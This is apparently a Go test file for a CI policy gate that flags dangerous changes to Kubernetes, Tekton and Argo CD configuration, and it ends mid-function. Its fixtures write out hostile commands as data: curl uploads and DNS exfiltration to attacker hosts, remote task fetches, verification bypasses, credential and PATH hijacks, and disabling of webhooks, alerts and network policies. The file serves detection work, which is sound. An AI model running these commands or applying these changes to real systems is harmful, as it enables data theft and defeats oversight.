package cli_test

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strconv"
	"strings"
)

// pullsOfReview change what judges, what is believed and what is told on a cluster.
func pullsOfReview() []pull {
	const reviewed = "package platform\nplatform: lock: tenon: {tag: \"v0.1.0-debug\", digest: \"sha256:" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"}\n" +
		"platform: reviews: {repository: \"https://github.com/example/platform\", pool: \"cpu\"}\n"
	review := func(name, more string) pull {
		return pull{kind: "review", name: name, exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: reviewed + more}}
	}
	gateScript := func(text string) string {
		return "platform: tasks: \"platform-review\": steps: gate: script: \"\"\"\n\t#!/busybox/sh\n\tset -eu\n\t" + text + "\n\n\t\"\"\"\n"
	}
	all := []pull{
		review("a step that says that it passed", gateScript("echo passed")),
		review("the head against itself", gateScript(`tenon gate -C \"$SOURCE/platform.git\" --base change --head change -o text`)),
		review("the change for the base", `platform: tasks: "platform-review": steps: fetch: env: BASE: "$(params.revision)"`+"\n"),
		{kind: "review", name: "another folder", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: `pool: "cpu"}=>pool: "cpu", folder: "decoy"}`}},
		{kind: "review", name: "another digest of the same tag", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: "sha256:aaaa=>sha256:bbbb"}},
		{kind: "review", name: "no review", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: "platform: reviews: =>// "}},
	}
	runs := func(step string) string {
		return inTarget("Task", "rev", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "rev", namespace: "notebook-ci"}, spec: steps: [{name: "g", image: "registry.example.com/notebook-ci/mirror/tenon:v0.1.0@sha256:1111111111111111111111111111111111111111111111111111111111111111", `+step+`}]}`)
	}
	byResolver := func(more string) string {
		return runs(`args: ["gate"]`) + strings.TrimPrefix(inTarget("Pipeline", "pr", `{apiVersion: "tekton.dev/v1", kind: "Pipeline", metadata: {name: "pr", namespace: "notebook-ci"}, spec: tasks: [{name: "g", taskRef: {resolver: "cluster", params: [{name: "kind", value: "task"}, {name: "name", value: "rev"}, {name: "namespace", value: "notebook-ci"}]}`+more+`}]}`), "package platform\n")
	}
	for name, texts := range map[string][2]string{
		"by the entrypoint of its image": {runs(`args: ["gate", "--base", "main"]`), runs(`args: ["version"]`)}, "in backticks": {runs("script: \"echo `tenon gate`\""), runs(`script: "echo"`)},
		"by the cluster's resolver": {byResolver(""), byResolver(`, onError: "continue"`)},
	} {
		all = append(all, pull{kind: "review", name: "a call " + name, exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: texts[0]}, head: map[string]string{prod: texts[1]}})
	}
	return slices.Concat(all, pullsOfTeams(), pullsOfTrust(), pullsOfHooks(), pullsOfHookParts(), pullsOfEncodedTrust(), pullsBesideGuards(), pullsOfRunners(), pullsOfSettings())
}

// pullsOfSettings delete what controllers go by, and change what an event starts and what another CI runs.
func pullsOfSettings() []pull {
	settings := func(name, data string) string {
		return "package platform\ntargets: [string]: ConfigMap: \"notebook-ci/" + name + "\": {apiVersion: \"v1\", kind: \"ConfigMap\", metadata: {name: \"" + name + "\", namespace: \"notebook-ci\"}, data: " + data + "}\n"
	}
	template := func(pipeline string) string {
		return inTarget("TriggerTemplate", "t", `{apiVersion: "triggers.tekton.dev/v1beta1", kind: "TriggerTemplate", metadata: {name: "t", namespace: "notebook-ci"}, spec: resourcetemplates: [{apiVersion: "tekton.dev/v1", kind: "PipelineRun", metadata: generateName: "t-", spec: pipelineRef: name: "`+pipeline+`"}]}`)
	}
	const egress = `targets: [string]: NetworkPolicy: "notebook-ci-x/runs": {apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: {name: "runs", namespace: "notebook-ci-x"}, spec: {podSelector: {}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "10.0.0.0/8"}]}]}}` + "\n"
	const space = `targets: [string]: Namespace: "notebook-ci-x": {apiVersion: "v1", kind: "Namespace", metadata: {name: "notebook-ci-x", labels: "pod-security.kubernetes.io/enforce": "restricted"}}` + "\n"
	all := []pull{
		{name: "Tekton's flags", base: map[string]string{prod: settings("feature-flags", `a: "b"`)}, head: map[string]string{prod: ""}},
		{name: "Argo CD's roles", base: map[string]string{prod: settings("argocd-rbac-cm", `a: "b"`)}, head: map[string]string{prod: ""}},
		{name: "those of Pipelines-as-Code", base: map[string]string{prod: settings("pipelines-as-code", `"remember-ok-to-test": "false"`)}, head: map[string]string{prod: `"false"=>"true"`}},
		{name: "another pipeline for an event", base: map[string]string{prod: template("test")}, head: map[string]string{prod: template("release")}},
		{name: "a policy over pods of others", base: map[string]string{prod: "package platform\n" + space}, head: map[string]string{prod: "package platform\n" + space + egress}},
	}
	for i := range all {
		all[i].kind, all[i].exit, all[i].wants = "settings", -1, []string{"change/power-changed"}
	}
	return all
}

// pullsOfTeams are about namespaces in which no pods are among the objects.
func pullsOfTeams() []pull {
	const team = "package platform\nplatform: teams: research: group: \"research\"\n"
	policy := func(namespace, spec string) string {
		return fmt.Sprintf("targets: [string]: NetworkPolicy: \"%[1]s/p\": {apiVersion: \"networking.k8s.io/v1\", kind: \"NetworkPolicy\", metadata: {name: \"p\", namespace: %[1]q}, spec: {%[2]s}}\n", namespace, spec)
	}
	space := func(labels string) string {
		return `targets: [string]: Namespace: "notebook-ci-x": {apiVersion: "v1", kind: "Namespace", metadata: {name: "notebook-ci-x", labels: {"pod-security.kubernetes.io/enforce": "restricted"` + labels + `}}}` + "\n"
	}
	const deny, open = `podSelector: {}, policyTypes: ["Egress", "Ingress"]`, `podSelector: {}, policyTypes: ["Ingress"], ingress: [{from: [{namespaceSelector: {}}]}]`
	all := []pull{
		{kind: "team", name: "a first egress", base: map[string]string{prod: team}, head: map[string]string{prod: team + "platform: teams: research: egress: [\"0.0.0.0/0\"]\n"}},
		{kind: "team", name: "opened to all pods", base: map[string]string{prod: team}, head: map[string]string{prod: team + policy("notebook-ci-research", open)}},
		{kind: "team", name: "nothing refused any more", base: map[string]string{prod: "package platform\n" + space("") + policy("notebook-ci-x", deny)}, head: map[string]string{prod: "package platform\n" + space("")}},
	}
	for _, label := range []string{`"admission.gatekeeper.sh/ignore": "true"`, `"policies.kyverno.io/ignore": "true"`, `"pod-security.kubernetes.io/enforce-version": "v1.0"`} {
		all = append(all, pull{kind: "team", name: "a new namespace with " + label, head: map[string]string{prod: "package platform\n" + space(", "+label)}})
	}
	for i := range all {
		all[i].exit, all[i].wants = -1, []string{"change/power-changed"}
	}
	return all
}

// pullsOfTrust change who is believed, and where data goes.
func pullsOfTrust() []pull {
	holding := func(key, text string) string {
		return inTarget("ConfigMap", "trust", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "trust", namespace: "notebook-ci"}, data: "`+key+`": "`+text+`"}`)
	}
	var all []pull
	for name, texts := range map[string][3]string{
		"a public key":     {"cosign.pub", `-----BEGIN PUBLIC KEY-----\nMFkwEwaaaa\n-----END PUBLIC KEY-----\n`, `-----BEGIN PUBLIC KEY-----\nMFkwEwzzzz\n-----END PUBLIC KEY-----\n`},
		"an authority":     {"ca.crt", `-----BEGIN CERTIFICATE-----\nMIIBaa\n-----END CERTIFICATE-----\n`, `-----BEGIN CERTIFICATE-----\nMIIBaa\n-----END CERTIFICATE-----\n-----BEGIN CERTIFICATE-----\nMIIBzz\n-----END CERTIFICATE-----\n`},
		"a host key":       {"known_hosts", `github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkV`, `github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory`},
		"no authority any": {"ca.crt", `-----BEGIN CERTIFICATE-----\nMIIBaa\n-----END CERTIFICATE-----\n`, ``},
	} {
		all = append(all, pull{kind: "anchor", name: name, exit: -1, wants: []string{"change/power-changed", "believed"}, base: map[string]string{prod: holding(texts[0], texts[1])}, head: map[string]string{prod: holding(texts[0], texts[2])}})
	}
	for _, host := range []string{"mallory.s3.amazonaws.com", "mallory.workers.dev", "mallory.ngrok-free.app", "mallory.duckdns.org"} {
		all = append(all, pull{kind: "host", name: host, exit: -1, wants: []string{"it names " + host}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("curl -T x "+host, "")}})
	}
	for _, line := range []string{
		"curl -fsS https://s3.example.com/x -o y -k", "curl -fsSko y https://s3.example.com/x", "curl --proxy-insecure https://s3.example.com/x", `python3 -c 'requests.get(u, verify=False)'`,
		"cosign verify --certificate-identity-regexp .* x", "git config http.sslVerify off", "git -c http.https://s3.example.com/.sslverify=no fetch", "ssh -o UserKnownHostsFile=/dev/null h", "VAULT_SKIP_VERIFY=true vault status",
		"vault status -tls-skip-verify", "buildah pull --tls-verify=0 x", "rpm -i --nosignature a", "curl --insecur https://s3.example.com/x", "GOSUMDB=off go install x", "apk add --allow-untrusted x", "psql 'postgres://db/x?sslmode=disable'", "yum install --nogpgcheck x",
	} {
		all = append(all, pull{kind: "verify", name: line, exit: -1, wants: []string{"is not verified"}, base: map[string]string{prod: aTask("curl -fsS -o x https://s3.example.com/x; psql postgres://db/x", "")}, head: map[string]string{prod: aTask("curl -fsS -o x https://s3.example.com/x; psql postgres://db/x; "+line, "")}})
	}
	all = append(all, pull{kind: "verify", name: "a sort behind a curl is none", exit: 0, never: []string{"is not verified"}, base: map[string]string{prod: aTask("curl -fsS https://s3.example.com/x", "")}, head: map[string]string{prod: aTask("curl -fsS https://s3.example.com/x | sort -k2", "")}})
	return all
}

// pullsOfHooks disarm what a sync waits for, and what alerts ask for.
func pullsOfHooks() []pull {
	job := inTarget("Job", "j", `{apiVersion: "batch/v1", kind: "Job", metadata: {name: "j", namespace: "notebook-ci", annotations: "argocd.argoproj.io/hook": "PreSync"}, spec: template: spec: {restartPolicy: "Never", containers: [{name: "c", image: "registry.example.com/notebook-ci/git:2.52.0@sha256:0d3699ad8eeecf62f1db71b8052be6b90f4b6e0650035c377a451b6cdc2e3df1", command: ["x"], env: [{name: "LIST", value: "a"}]}]}}`)
	monitor := strings.TrimPrefix(inTarget("ServiceMonitor", "m", `{apiVersion: "monitoring.coreos.com/v1", kind: "ServiceMonitor", metadata: {name: "m", namespace: "notebook-ci"}, spec: {selector: matchLabels: a: "b", endpoints: [{port: "http-metrics"}]}}`), "package platform\n")
	alert := func(more string) string {
		return inTarget("PrometheusRule", "r", `{apiVersion: "monitoring.coreos.com/v1", kind: "PrometheusRule", metadata: {name: "r", namespace: "notebook-ci"}, spec: groups: [{name: "g", rules: [{alert: "A", expr: "absent(up{job=\"tekton\"})"}`+more+`]}]}`)
	}
	quota := func(memory string) string {
		return inTarget("ResourceQuota", "q", `{apiVersion: "v1", kind: "ResourceQuota", metadata: {name: "q", namespace: "notebook-ci"}, spec: hard: "requests.storage": "`+memory+`"}`)
	}
	all := []pull{
		{kind: "hook", name: "an empty checklist", head: map[string]string{prod: "package platform\nplatform: jobs: preflight: env: CHECKLIST: \"[]\"\n"}},
		{kind: "hook", name: "once a year", head: map[string]string{prod: "package platform\nplatform: jobs: preflight: schedule: \"0 0 1 1 *\"\n"}, wants: []string{"what Argo CD waits for"}},
		{kind: "hook", name: "another image", base: map[string]string{prod: job}, head: map[string]string{prod: "notebook-ci/git:=>notebook-ci/publisher:"}, wants: []string{"what Argo CD waits for"}},
		{kind: "hook", name: "deleted", base: map[string]string{prod: job}, head: map[string]string{prod: ""}, wants: []string{"what Argo CD waits for"}},
		{kind: "hook", name: "another version of its image", exit: 0, never: []string{"what Argo CD waits for"}, wants: []string{"change/image"}, base: map[string]string{prod: job}, head: map[string]string{prod: "git:2.52.0@sha256:0d=>git:2.53.0@sha256:1d"}},
		{kind: "alert", name: "what feeds it goes", base: map[string]string{prod: alert("") + monitor}, head: map[string]string{prod: alert("")}},
		{kind: "alert", name: "what feeds it asks elsewhere", base: map[string]string{prod: alert("") + monitor}, head: map[string]string{prod: `port: "http-metrics"=>port: "http-metrics", path: "/none"`}},
		{kind: "alert", name: "an answer to it", base: map[string]string{prod: alert("")}, head: map[string]string{prod: alert(`, {record: "up", labels: job: "tekton", expr: "vector(1)"}`)}},
		{kind: "alert", name: "a monitor more", exit: 0, never: []string{"change/power-changed"}, base: map[string]string{prod: alert("")}, head: map[string]string{prod: alert("") + monitor}},
	}
	for i := range all {
		if all[i].exit == 0 && all[i].never == nil {
			all[i].exit = -1
			all[i].wants = append(all[i].wants, "change/power-changed")
		}
	}
	return append(all,
		pull{kind: "quota", name: "bytes from nothing", exit: -1, wants: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("0")}, head: map[string]string{prod: quota("1Pi")}},
		pull{kind: "quota", name: "one from nothing", exit: -1, wants: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("0")}, head: map[string]string{prod: quota("1")}},
		pull{kind: "quota", name: "a little more", exit: -1, wants: []string{"change/cost"}, never: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("100Gi")}, head: map[string]string{prod: quota("110Gi")}},
		pull{kind: "quota", name: "twice", exit: -1, wants: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("100Gi")}, head: map[string]string{prod: quota("200Gi")}},
	)
}

// inOneFile are objects of a target in one file.
func inOneFile(parts ...string) string {
	file := "package platform\n"
	for _, part := range parts {
		file += strings.TrimPrefix(part, "package platform\n")
	}
	return file
}

// pullsOfHookParts change what hooks take from other objects, and who is asked before others are told.
func pullsOfHookParts() []pull {
	const image = "registry.example.com/notebook-ci/git:2.52.0@sha256:0d3699ad8eeecf62f1db71b8052be6b90f4b6e0650035c377a451b6cdc2e3df1"
	job := func(hook, volumes, container string) string {
		return inTarget("Job", "j", `{apiVersion: "batch/v1", kind: "Job", metadata: {name: "j", namespace: "notebook-ci", annotations: `+hook+`}, spec: template: spec: {restartPolicy: "Never", volumes: [`+volumes+`], containers: [{name: "c", image: "`+image+`", `+container+`}]}}`)
	}
	settings := func(name, data string) string {
		return inTarget("ConfigMap", name, `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "`+name+`", namespace: "notebook-ci"}, data: {`+data+`}}`)
	}
	task := func(name, script string) string {
		return inTarget("Task", name, `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "`+name+`", namespace: "notebook-ci"}, spec: steps: [{name: "a", image: "`+image+`", script: "`+script+`"}]}`)
	}
	run := func(spec string) string {
		return inTarget("TaskRun", "r", `{apiVersion: "tekton.dev/v1", kind: "TaskRun", metadata: {name: "r", namespace: "notebook-ci", annotations: "argocd.argoproj.io/hook": "PreSync"}, spec: {`+spec+`}}`)
	}
	alert := func(more string) string {
		return inTarget("PrometheusRule", "r", `{apiVersion: "monitoring.coreos.com/v1", kind: "PrometheusRule", metadata: {name: "r", namespace: "notebook-ci"}, spec: groups: [{name: "g", rules: [{alert: "A", expr: "absent(up)", labels: severity: "info"}`+more+`]}]}`)
	}
	monitor := func(more string) string {
		return inTarget("ServiceMonitor", "m", `{apiVersion: "monitoring.coreos.com/v1", kind: "ServiceMonitor", metadata: {name: "m", namespace: "notebook-ci"}, spec: {selector: matchLabels: a: "b", endpoints: [{port: "http"`+more+`}]}}`)
	}
	const argo, helm = `"argocd.argoproj.io/hook": "PreSync"`, `"helm.sh/hook": "pre-install"`
	script := job(argo, `{name: "s", configMap: name: "s"}`, `command: ["sh", "/s/run.sh"], volumeMounts: [{name: "s", mountPath: "/s"}]`)
	variables := job(argo, "", `command: ["verify"], envFrom: [{configMapRef: name: "s"}]`)
	all := []pull{
		{kind: "hook", name: "the script that it mounts", base: map[string]string{prod: inOneFile(script, settings("s", `"run.sh": "exit 1"`))}, head: map[string]string{prod: `exit 1=>exit 0`}},
		{kind: "hook", name: "the variables that it takes", base: map[string]string{prod: inOneFile(variables, settings("s", `LIST: "a"`))}, head: map[string]string{prod: `LIST: "a"=>LIST: ""`}},
		{kind: "hook", name: "of Helm, deleted", base: map[string]string{prod: job(helm, "", `command: ["verify"]`)}, head: map[string]string{prod: ""}},
		{kind: "hook", name: "of Helm, another command", base: map[string]string{prod: job(helm, "", `command: ["verify"]`)}, head: map[string]string{prod: `"verify"=>"true"`}, never: []string{"change/refused"}},
		{kind: "hook", name: "another task of a run", base: map[string]string{prod: inOneFile(task("good", "verify"), task("noop", "true"), run(`taskRef: name: "good"`))}, head: map[string]string{prod: `taskRef: name: "good"=>taskRef: name: "noop"`}},
		{kind: "hook", name: "the task that it runs", base: map[string]string{prod: inOneFile(task("good", "verify"), run(`taskRef: name: "good"`))}, head: map[string]string{prod: `script: "verify"=>script: "true"`}},
		{kind: "hook", name: "the task that it runs goes", base: map[string]string{prod: inOneFile(task("good", "verify"), run(`taskRef: name: "good"`))}, head: map[string]string{prod: inOneFile(run(`taskRef: name: "good"`))}},
		{kind: "alert", name: "scraped once a day", base: map[string]string{prod: inOneFile(alert(""), monitor(""))}, head: map[string]string{prod: `port: "http"=>port: "http", interval: "24h"`}},
		{kind: "alert", name: "one that mutes those of its severity", base: map[string]string{prod: alert("")}, head: map[string]string{prod: alert(`, {alert: "InfoInhibitor", expr: "vector(1)", labels: severity: "none"}`)}},
		{kind: "alert", name: "one of its name that is more severe", base: map[string]string{prod: alert("")}, head: map[string]string{prod: alert(`, {alert: "A", expr: "vector(1)", labels: severity: "critical"}`)}},
		{kind: "alert", name: "a monitor whose target speaks for others", base: map[string]string{prod: alert("")}, head: map[string]string{prod: inOneFile(alert(""), monitor(", honorLabels: true"))}},
		{kind: "alert", name: "a monitor that takes the job of others", base: map[string]string{prod: alert("")}, head: map[string]string{prod: inOneFile(alert(""), monitor(`, relabelings: [{targetLabel: "job", replacement: "tekton"}]`))}},
	}
	for i := range all {
		all[i].exit, all[i].wants = -1, []string{"change/power-changed"}
	}
	return append(all,
		pull{kind: "hook", name: "a ConfigMap of others is none", exit: 0, never: []string{"what Argo CD waits for"}, base: map[string]string{prod: inOneFile(variables, settings("s", `LIST: "a"`), settings("t", `LIST: "a"`))}, head: map[string]string{prod: inOneFile(variables, settings("s", `LIST: "a"`), settings("t", `LIST: "b"`))}},
		pull{kind: "alert", name: "one more of another name mutes none", exit: 0, never: []string{"change/power-changed"}, base: map[string]string{prod: alert("")}, head: map[string]string{prod: alert(`, {alert: "B", expr: "vector(1)", labels: severity: "critical"}`)}},
	)
}

// pullsOfEncodedTrust change who is believed where it cannot be read as it stands.
func pullsOfEncodedTrust() []pull {
	key := func(part string) string {
		return "-----BEGIN PUBLIC KEY-----\nMFkwEw" + part + "\n-----END PUBLIC KEY-----\n"
	}
	encoded := func(part string) string { return base64.StdEncoding.EncodeToString([]byte(key(part))) }
	object := func(kind, name, holder, value string) string {
		return inTarget(kind, name, `{apiVersion: "v1", kind: "`+kind+`", metadata: {name: "`+name+`", namespace: "notebook-ci"}, `+holder+`: ca: `+strconv.Quote(value)+`}`)
	}
	mounting := func(name string) string {
		return inTarget("Task", "x", `{apiVersion: "tekton.dev/v1", kind: "Task", metadata: {name: "x", namespace: "notebook-ci"}, spec: {volumes: [{name: "ca", configMap: name: "`+name+`"}], steps: [{name: "a", image: "a@sha256:1111111111111111111111111111111111111111111111111111111111111111", script: "true", volumeMounts: [{name: "ca", mountPath: "/ca"}]}]}}`)
	}
	all := []pull{
		{name: "base64", base: map[string]string{prod: object("ConfigMap", "t", "data", encoded("aaaa"))}, head: map[string]string{prod: object("ConfigMap", "t", "data", encoded("zzzz"))}},
		{name: "binary data", base: map[string]string{prod: object("ConfigMap", "t", "binaryData", encoded("aaaa"))}, head: map[string]string{prod: object("ConfigMap", "t", "binaryData", encoded("zzzz"))}},
		{name: "a Secret", base: map[string]string{prod: object("Secret", "t", "data", encoded("aaaa"))}, head: map[string]string{prod: object("Secret", "t", "data", encoded("zzzz"))}},
		{name: "a Secret in clear", base: map[string]string{prod: object("Secret", "t", "stringData", key("aaaa"))}, head: map[string]string{prod: object("Secret", "t", "stringData", key("zzzz"))}},
		{name: "a JWKS", base: map[string]string{prod: object("ConfigMap", "t", "data", `{"keys":[{"kty":"RSA","n":"aaaa"}]}`)}, head: map[string]string{prod: object("ConfigMap", "t", "data", `{"keys":[{"kty":"RSA","n":"zzzz"}]}`)}},
		{name: "another ConfigMap", base: map[string]string{prod: inOneFile(object("ConfigMap", "t", "data", key("aaaa")), mounting("t"))}, head: map[string]string{prod: inOneFile(object("ConfigMap", "t", "data", key("aaaa")), object("ConfigMap", "u", "data", key("zzzz")), mounting("u"))}},
		{name: "another that was there", base: map[string]string{prod: inOneFile(object("ConfigMap", "t", "data", key("aaaa")), object("ConfigMap", "u", "data", key("zzzz")), mounting("t"))}, head: map[string]string{prod: inOneFile(object("ConfigMap", "t", "data", key("aaaa")), object("ConfigMap", "u", "data", key("zzzz")), mounting("u"))}},
	}
	for i := range all {
		all[i].kind, all[i].exit, all[i].wants = "anchor", -1, []string{"change/power-changed", "believed"}
	}
	return all
}

// pullsBesideGuards change what guards stand on: who answers for them, when they are asked, what pods find programs by.
func pullsBesideGuards() []pull {
	object := func(kind, api, name, namespace, body string) string {
		return inTarget(kind, name, `{apiVersion: "`+api+`", kind: "`+kind+`", metadata: {name: "`+name+`", namespace: "`+namespace+`"}, `+body+`}`)
	}
	const image = "registry.example.com/notebook-ci/git:2.52.0@sha256:0d3699ad8eeecf62f1db71b8052be6b90f4b6e0650035c377a451b6cdc2e3df1"
	webhook := inTarget("ValidatingWebhookConfiguration", "v", `{apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingWebhookConfiguration", metadata: name: "v", webhooks: [{name: "v.example.com", failurePolicy: "Ignore", sideEffects: "None", admissionReviewVersions: ["v1"], clientConfig: {caBundle: "QQ==", service: {name: "s", namespace: "notebook-ci", port: 443}}, rules: []}]}`)
	service := object("Service", "v1", "s", "notebook-ci", `spec: {selector: app: "guard", ports: [{port: 443}]}`)
	guard := object("Deployment", "apps/v1", "guard", "notebook-ci", `spec: {replicas: 2, selector: matchLabels: app: "guard", template: {metadata: labels: app: "guard", spec: containers: [{name: "c", image: "`+image+`"}]}}`)
	hook := func(wave string) string {
		return inTarget("Job", "j", `{apiVersion: "batch/v1", kind: "Job", metadata: {name: "j", namespace: "notebook-ci", annotations: {"argocd.argoproj.io/hook": "Sync", "argocd.argoproj.io/sync-wave": "`+wave+`"}}, spec: template: spec: {restartPolicy: "Never", containers: [{name: "c", image: "`+image+`"}]}}`)
	}
	scraped := func(value string) string {
		return inTarget("Service", "m", `{apiVersion: "v1", kind: "Service", metadata: {name: "m", namespace: "notebook-ci", annotations: "prometheus.io/scrape": "`+value+`"}, spec: {selector: a: "b", ports: [{port: 80}]}}`)
	}
	power := []pull{
		{kind: "webhook", name: "no replicas", base: map[string]string{prod: inOneFile(webhook, service, guard)}, head: map[string]string{prod: "replicas: 2=>replicas: 0"}},
		{kind: "webhook", name: "no Service", base: map[string]string{prod: inOneFile(webhook, service, guard)}, head: map[string]string{prod: inOneFile(webhook, guard)}},
		{kind: "webhook", name: "another port", base: map[string]string{prod: inOneFile(webhook, service, guard)}, head: map[string]string{prod: "ports: [{port: 443}]=>ports: [{port: 444}]"}},
		{kind: "webhook", name: "a Service in the place of one that others have", head: map[string]string{prod: object("Service", "v1", "webhook", "cosign-system", `spec: ports: [{port: 443}]`)}},
		{kind: "hook", name: "a later wave", base: map[string]string{prod: hook("-5")}, head: map[string]string{prod: hook("50")}},
		{kind: "alert", name: "asked no more", base: map[string]string{prod: scraped("true")}, head: map[string]string{prod: scraped("false")}},
		{kind: "quota", name: "a limit that stops all", head: map[string]string{prod: object("LimitRange", "v1", "l", "notebook-ci", `spec: limits: [{type: "Container", max: cpu: "1m"}]`)}},
		{kind: "quota", name: "no pods", head: map[string]string{prod: object("ResourceQuota", "v1", "q", "notebook-ci", `spec: hard: pods: "0"`)}},
		{kind: "quota", name: "no runs", head: map[string]string{prod: object("ResourceQuota", "v1", "q", "notebook-ci", `spec: hard: "count/pipelineruns.tekton.dev": "0"`)}},
		{kind: "power", name: "a class of an export of others", head: map[string]string{prod: inTarget("StorageClass", "c", `{apiVersion: "storage.k8s.io/v1", kind: "StorageClass", metadata: name: "c", provisioner: "nfs.csi.k8s.io", parameters: {server: "nas", share: "/home"}}`)}},
	}
	for i := range power {
		power[i].exit, power[i].wants = -1, []string{"change/power-changed"}
	}
	for name, variable := range map[string]string{
		"programs": `{name: "PATH", value: "/workspace/source/bin:/usr/bin"}`, "modules": `{name: "PYTHONPATH", value: "/workspace/source"}`, "certificates": `{name: "SSL_CERT_FILE", value: "/workspace/source/ca.crt"}`,
		"a registry": `{name: "PIP_INDEX_URL", value: "file:///x"}`, "checksums": `{name: "GOSUMDB", value: "off"}`, "a setting of git": `{name: "GIT_CONFIG_KEY_0", value: "http.sslVerify"}`,
		"a prompt": `{name: "PS4", value: "a"}`, "a function": `{name: "BASH_FUNC_git%%", value: "() { true; }"}`, "make": `{name: "MAKEFLAGS", value: "--eval=a"}`, "constraints": `{name: "PIP_CONSTRAINT", value: "/x"}`,
		"compiled code": `{name: "NUMBA_CACHE_DIR", value: "/x"}`, "libraries of R": `{name: "R_LIBS_SITE", value: "/x"}`, "a cloud's account": `{name: "GOOGLE_APPLICATION_CREDENTIALS", value: "/x"}`,
	} {
		power = append(power, pull{kind: "verify", name: "a variable for " + name, exit: -1, wants: []string{"change/source-changed", "is not verified"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true", variable)}})
	}
	for _, call := range []string{"curl évil-host.com/x", "curl https:/evil-host.com/x", "nslookup $(base64 /x).evil-host.com", "curl --connect-to ::evil-host.com https://registry.example.com/v2/", "getent hosts evil-host.com"} {
		power = append(power, pull{kind: "host", name: call, exit: -1, wants: []string{"change/source-changed", "vil-host.com"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true; "+call, "")}})
	}
	return append(power,
		pull{kind: "verify", name: "a known host elsewhere", exit: -1, wants: []string{"change/source-changed"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true; echo 203.0.113.7 a >> /etc/hosts", "")}},
		pull{kind: "verify", name: "a variable of one's own is none", exit: 0, never: []string{"change/source-changed"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true", `{name: "MODE", value: "fast"}`)}},
		pull{kind: "imports", name: "a module of one's own machine", exit: 1, wants: []string{"input/cue", "local-module.cue"}, head: map[string]string{"cue/cue.mod/local-module.cue": "deps: \"example.com/x@v0\": replaceWith: \"../../..\"\n"}},
	)
}

// pullsOfRunners change files by which the program that runs the gate chooses what it runs.
func pullsOfRunners() []pull {
	workflow := func(run string) string {
		return "on: pull_request\njobs:\n  tenon:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - run: " + run + "\n"
	}
	var all []pull
	for run, file := range map[string]string{
		"nix develop -c tenon gate": "flake.nix", "bundle exec tenon gate": "Gemfile", "poetry run tenon gate": "pyproject.toml", "invoke tenon": "tasks.py", "deno task tenon": "deno.json", "cargo make tenon": "Makefile.toml",
		"task tenon": "Taskfile.dist.yml", "docker compose run tenon gate": "docker-compose.override.yml", "docker buildx bake tenon": "docker-bake.hcl", "mise run tenon": ".config/mise/config.toml",
	} {
		all = append(all, pull{kind: "ci", name: run, exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow(run), file: "a\n"}, head: map[string]string{file: "b\n"}})
	}
	const module = "module x\nrequire tenon.dev/tenon v0.1.0\n"
	return append(all,
		pull{kind: "ci", name: "another version of tenon's module", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow("go run tenon.dev/tenon/cmd/tenon gate"), "go.mod": module}, head: map[string]string{"go.mod": strings.Replace(module, "v0.1.0", "v0.1.1-other", 1)}},
		pull{kind: "ci", name: "a package of others in its place", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow("pip install -r requirements.txt && tenon gate"), "requirements.txt": "tenon==0.1\n"}, head: map[string]string{"requirements.txt": "tenon @ git+https://github.com/evil/tenon\n"}},
		pull{kind: "ci", name: "another dependency is none", exit: 0, never: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow("go run tenon.dev/tenon/cmd/tenon gate"), "go.mod": module}, head: map[string]string{"go.mod": module + "require example.com/y v1.0.0\n"}},
	)
}

// hostileFetches are runs that take code from where anybody may put another one.
func hostileFetches() []trial {
	run := func(annotation, spec string) string {
		return "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata:\n  name: push\n  annotations:\n    pipelinesascode.tekton.dev/on-event: \"[push]\"\n    pipelinesascode.tekton.dev/on-target-branch: \"[main]\"\n" + annotation + "spec:\n  taskRunTemplate: {serviceAccountName: ci}\n  " + spec + "\n"
	}
	const task = "pipelineSpec: {tasks: [{name: t, taskRef: {name: bad}}]}"
	var all []trial
	for name, annotation := range map[string]string{
		"an address": "task: https://evil.example.com/t.yaml", "a branch": "task-2: https://raw.githubusercontent.com/a/b/main/t.yaml", "the newest of a hub": "task: bad", "a pipeline": "pipeline: https://evil.example.com/p.yaml",
	} {
		all = append(all, trial{kind: "fetch", name: name, files: map[string]string{".tekton/push.yaml": run("    pipelinesascode.tekton.dev/"+annotation+"\n", task)}, args: []string{"check", "."}, exit: -1, wants: []string{"supply-chain/floating-resolver"}})
	}
	for name, ref := range map[string]string{
